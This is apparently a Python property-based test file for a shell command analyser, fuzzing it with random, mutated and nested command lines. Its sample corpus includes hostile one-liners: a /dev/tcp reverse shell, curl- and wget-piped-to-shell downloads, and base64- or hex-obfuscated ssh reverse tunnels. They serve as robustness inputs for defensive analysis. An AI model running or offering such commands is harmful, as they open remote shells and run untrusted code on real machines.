"""Property tests: whatever the input, the analyser returns facts or problems and never raises
(its speed is measured in bench/, not asserted here)."""

from __future__ import annotations

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from corral.analysis.facts import Analysis, Command
from corral.analysis.shell import analyze_argv, analyze_command_line

REAL_LINES = [
    "a=ss; ${a}h -fNR 2222:localhost:22 x@198.51.100.7",
    "echo c3NoIC1SIDgwOmg6MjIgdUBl | base64 -d | sh",
    'bash -c "$(echo c3NoIC1SIDgwOmg6MjIgdUBl | base64 -d)"',
    "cat <<EOF | sh &\nssh -R 80:h:22 u@e\nEOF",
    "python3 - <<'EOF'\nimport os\nos.system('id')\nEOF",
    "sudo -u root nohup timeout 5 sh -c 'curl -s http://x/y | bash' > /dev/null 2>&1 &",
    'for f in *.py; do python -m py_compile "$f" || exit 1; done',
    "find . -name '*.log' -mtime +7 -exec rm -f {} \\;",
    "git commit -m \"fix: handle $'x' and `date`\" && git push origin HEAD",
    "x=$(printf '\\x73\\x73\\x68'); $x -R 1:h:2 u@e",
    'case "$1" in start) run;; stop|kill) pkill -f x;; *) echo usage >&2;; esac',
    "exec 3<>/dev/tcp/10.0.0.1/4444; cat <&3 | while read l; do $l 2>&3 >&3; done",
    "kubectl exec -it pod -- sh -c 'wget -qO- http://x | sh'",
    "ssh -o ProxyCommand='nc -x proxy:1080 %h %p' admin@host 'uptime; df -h'",
    'docker run --rm -v "$PWD":/src -w /src python:3.12 pytest -q',
    "{ echo a; echo b; } | xargs -I{} sh -c 'echo {}' 2>/dev/null",
    "if [[ -n ${VAR:-} && $(id -u) -eq 0 ]]; then echo root; fi",
    "awk 'BEGIN{system(\"id\")}'; perl -e 'exec \"/bin/sh\"'",
    'eval "$(ssh-agent -s)"; ssh-add ~/.ssh/id_ed25519',
    "printf '%s\\n' {1..5} | rev | tr a-z n-za-m | sort -u",
]
SPECIAL = [*"$(){}[]<>|&;'\"`\\\n\t *?!#~=%@:,-+/^", "<<", "<<<", "$(", "${", "&&", "||"]
WRAPS = [
    ("$(", ")"),
    ("`", "`"),
    ("( ", " )"),
    ("{ ", "; }"),
    ('"$(', ')"'),
    ("bash -c '", "'"),
    ("<(", ")"),
    ("if true; then ", "; fi"),
    ("${x:-", "}"),
    ("eval ", ""),
    ("sudo ", ""),
]


def check(result: Analysis) -> None:
    assert isinstance(result, Analysis)
    assert result.kind == "exec"
    assert all(isinstance(p, str) and p for p in result.problems)
    for cmd in result.commands:
        assert isinstance(cmd, Command)
        assert cmd.argv and all(isinstance(a, str) for a in cmd.argv)
        assert isinstance(cmd.program, str)
        assert isinstance(cmd.via, tuple)
    assert all(isinstance(t, str) for t in result.texts)
    assert not any("shell analyser failed" in p for p in result.problems), result.problems


def run(line: str) -> None:
    check(analyze_command_line(line))


_SETTINGS = settings(
    deadline=None,
    max_examples=300,
    suppress_health_check=[HealthCheck.too_slow],
)


@_SETTINGS
@given(st.lists(st.sampled_from(SPECIAL) | st.characters(), max_size=120).map("".join))
def test_random_text(line: str) -> None:
    run(line)


@st.composite
def mutated(draw: st.DrawFn) -> str:
    line = draw(st.sampled_from(REAL_LINES))
    for _ in range(draw(st.integers(1, 6))):
        position = draw(st.integers(0, len(line)))
        action = draw(st.sampled_from(["insert", "delete", "duplicate", "cut"]))
        if action == "insert":
            line = line[:position] + draw(st.sampled_from(SPECIAL)) + line[position:]
        elif action == "delete":
            line = line[:position] + line[position + 1 :]
        elif action == "duplicate":
            end = draw(st.integers(position, min(len(line), position + 20)))
            line = line[:end] + line[position:end] + line[end:]
        else:
            line = line[:position]
    return line


@_SETTINGS
@given(mutated())
def test_mutated_real_lines(line: str) -> None:
    run(line)


@_SETTINGS
@given(
    st.lists(st.sampled_from(WRAPS), min_size=1, max_size=120),
    st.sampled_from(REAL_LINES),
)
def test_deep_nesting(wraps: list[tuple[str, str]], core: str) -> None:
    line = core
    for opening, closing in wraps:
        line = opening + line + closing
    run(line)


@settings(deadline=None, max_examples=100)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=8))
def test_random_argv(argv: list[str]) -> None:
    check(analyze_argv(argv))
